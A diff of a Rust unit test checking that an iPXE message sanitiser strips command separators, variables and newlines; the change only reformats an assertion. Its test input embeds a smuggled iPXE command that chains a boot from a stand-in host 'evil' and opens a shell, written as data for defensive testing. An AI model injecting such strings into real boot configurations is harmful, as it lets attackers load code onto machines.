@@ -177,7 +177,10 @@ mod tests {
     #[test]
     fn messages_cannot_inject_ipxe_commands() {
         let m = ipxe_text("disk ${x} || chain http://evil/ && exit\nshell\r");
-        assert!(!m.contains('$') && !m.contains('|') && !m.contains('&'), "{m}");
+        assert!(
+            !m.contains('$') && !m.contains('|') && !m.contains('&'),
+            "{m}"
+        );
         assert!(!m.contains('\n') && !m.contains('\r'), "{m}");
         assert!(m.starts_with("disk __x_ __ chain http://evil/ __"), "{m}");
         assert_eq!(ipxe_text(&"x".repeat(500)).len(), 200);
